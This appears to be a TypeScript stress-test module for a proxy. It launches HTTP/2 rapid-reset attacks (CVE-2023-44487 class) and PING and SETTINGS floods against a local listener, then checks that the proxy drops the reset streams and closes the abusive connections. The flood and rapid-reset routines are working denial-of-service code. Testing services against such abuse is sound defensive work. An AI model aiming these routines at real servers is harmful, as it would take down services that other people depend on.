/**
 * @module test/torture/attacks/h2-floods
 * HTTP/2 abuse on the https listener (issue 9 point 2): rapid reset (CVE-2023-44487
 * class) with node:http2 and with raw frames, and PING and SETTINGS floods from a
 * client that never reads the acknowledgements.
 */
import http2 from 'node:http2'
import { connectRawH2, frame, FRAME, getThenCancel } from '../h2-raw.ts'
import type { AttackContext, TortureAttack } from '../types.ts'

/** Reset streams the VM may see before the row fails: streams reset before forwarding must not be forwarded. */
const FORWARDED_SHARE_LIMIT = 0.1

interface ConnectionResult { sent: number, goaway?: number, closedByProxy: boolean }

/** node:http2: `streams` requests on one session, each closed with NGHTTP2_CANCEL right after it is created. */
async function nodeRapidReset (port: number, host: string, streams: number): Promise<ConnectionResult> {
  const session = http2.connect(`https://127.0.0.1:${port}`, { servername: host, rejectUnauthorized: false })
  let goaway: number | undefined
  let closedByProxy = false
  session.on('goaway', (code) => { goaway = code; closedByProxy = true })
  session.on('error', () => { closedByProxy = true })
  const closed = new Promise<void>((resolve) => session.once('close', () => { resolve() }))
  const connected = await Promise.race([
    new Promise<boolean>((resolve) => session.once('connect', () => { resolve(true) })),
    closed.then(() => false),
    new Promise<boolean>((resolve) => setTimeout(() => { resolve(false) }, 5000))
  ])
  let sent = 0
  if (connected) {
    for (let i = 0; i < streams && !session.destroyed && !session.closed; i++) {
      let stream: http2.ClientHttp2Stream
      try {
        stream = session.request({ ':path': `/rr/${i}`, ':authority': host })
      } catch {
        break
      }
      stream.on('error', () => {})
      stream.close(http2.constants.NGHTTP2_CANCEL)
      sent++
    }
  }
  // Let the frames go out and the session wind down, bounded.
  if (!session.closed) session.close()
  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 5000))])
  session.destroy()
  return { sent, goaway, closedByProxy }
}

/** Raw frames: `streams` HEADERS+RST_STREAM pairs written back to back, reading the answers. */
async function rawRapidReset (port: number, host: string, streams: number): Promise<ConnectionResult> {
  const conn = await connectRawH2(port, host, true)
  let sent = 0
  const batch = 100
  for (let first = 0; first < streams; first += batch) {
    const frames: Buffer[] = []
    for (let i = first; i < Math.min(streams, first + batch); i++) frames.push(getThenCancel(2 * i + 1, host, `/rrraw/${i}`))
    if (!await conn.write(Buffer.concat(frames))) break
    sent += frames.length
  }
  await Promise.race([conn.closed, new Promise((resolve) => setTimeout(resolve, 2000))])
  conn.socket.destroy()
  return { sent, goaway: conn.goaways[0], closedByProxy: conn.goaways.length > 0 || conn.closedBy() !== undefined }
}

export const rapidReset: TortureAttack = {
  name: 'h2-rapid-reset',
  summary: 'HTTP/2 rapid reset: 1,000 requests each cancelled at once (RST_STREAM CANCEL) per connection, over 10 node:http2 connections and 10 raw-frame ones',
  async run (ctx: AttackContext) {
    const connections = ctx.quick ? 2 : 10
    const streams = 1000
    const { https } = ctx.stand.ports
    const results = { node: [] as ConnectionResult[], raw: [] as ConnectionResult[] }
    for (let c = 0; c < connections; c++) results.node.push(await nodeRapidReset(https, ctx.stand.host, streams))
    for (let c = 0; c < connections; c++) results.raw.push(await rawRapidReset(https, ctx.stand.host, streams))
    const vm = await ctx.stand.vm.stats()
    const sent = (rs: ConnectionResult[]): number => rs.reduce((n, r) => n + r.sent, 0)
    const closed = (rs: ConnectionResult[]): number => rs.filter((r) => r.closedByProxy).length
    const seen = { node: vm.byPath['/rr'] ?? 0, raw: vm.byPath['/rrraw'] ?? 0 }
    const problems: string[] = []
    for (const kind of ['node', 'raw'] as const) {
      const total = sent(results[kind])
      if (seen[kind] > total * FORWARDED_SHARE_LIMIT) problems.push(`the VM saw ${seen[kind]} of ${total} streams reset at once (${kind === 'node' ? 'node:http2' : 'raw frames'}); more than ${FORWARDED_SHARE_LIMIT * 100} % were forwarded`)
    }
    const goaways = [...results.node, ...results.raw].map((r) => r.goaway).filter((g) => g !== undefined)
    if (closed(results.raw) === 0 && !ctx.quick) problems.push(`no connection resetting ${streams} streams was closed by the proxy (issue 9: an abusive connection is closed)`)
    return {
      stats: {
        'streams reset (node:http2)': sent(results.node),
        'reached the VM (node:http2)': seen.node,
        'streams reset (raw)': sent(results.raw),
        'reached the VM (raw)': seen.raw,
        'connections closed by the proxy': `${closed(results.node) + closed(results.raw)} of ${2 * connections}`,
        'GOAWAY codes': goaways.length === 0 ? 'none' : [...new Set(goaways)].join('/')
      },
      problems
    }
  }
}

/** Writes `count` copies of `unit` (in batches) on connections that never read, each bounded by `seconds`. */
async function flood (ctx: AttackContext, unit: Buffer, count: number, connections: number, seconds: number): Promise<{ stats: Record<string, number | string>, notes: string[] }> {
  let sent = 0
  let closedByProxy = 0
  const batch = Buffer.concat(Array.from({ length: 1000 }, () => unit))
  for (let c = 0; c < connections; c++) {
    const conn = await connectRawH2(ctx.stand.ports.https, ctx.stand.host, false)
    const deadline = new Promise<false>((resolve) => setTimeout(() => { resolve(false) }, seconds * 1000))
    for (let n = 0; n < count; n += 1000) {
      if (!await Promise.race([conn.write(batch), deadline])) break
      sent += 1000
    }
    // Reading now would show the answers; what matters is whether the proxy gave up on us.
    await Promise.race([conn.closed, new Promise((resolve) => setTimeout(resolve, 1000))])
    if (conn.closedBy() !== undefined) closedByProxy++
    conn.socket.destroy()
  }
  const notes = closedByProxy === connections ? [] : [`${connections - closedByProxy} of ${connections} flooding connections were still open when the client gave up (the proxy stopped reading instead of closing)`]
  return { stats: { 'frames written': sent, 'connections closed by the proxy': `${closedByProxy} of ${connections}` }, notes }
}

export const pingFlood: TortureAttack = {
  name: 'h2-ping-flood',
  summary: 'raw HTTP/2: 100,000 PINGs per connection on 5 connections that never read the PING ACKs',
  async run (ctx) {
    const { stats, notes } = await flood(ctx, frame(FRAME.PING, 0, 0, Buffer.alloc(8)), ctx.quick ? 20_000 : 100_000, ctx.quick ? 1 : 5, ctx.quick ? 5 : 10)
    return { stats, notes, problems: [] }
  }
}

export const settingsFlood: TortureAttack = {
  name: 'h2-settings-flood',
  summary: 'raw HTTP/2: 100,000 SETTINGS frames per connection on 5 connections that never read the SETTINGS ACKs',
  async run (ctx) {
    // SETTINGS_INITIAL_WINDOW_SIZE = 65535: a valid setting, each needing an ACK.
    const setting = Buffer.from([0x00, 0x04, 0x00, 0x00, 0xff, 0xff])
    const { stats, notes } = await flood(ctx, frame(FRAME.SETTINGS, 0, 0, setting), ctx.quick ? 20_000 : 100_000, ctx.quick ? 1 : 5, ctx.quick ? 5 : 10)
    return { stats, notes, problems: [] }
  }
}
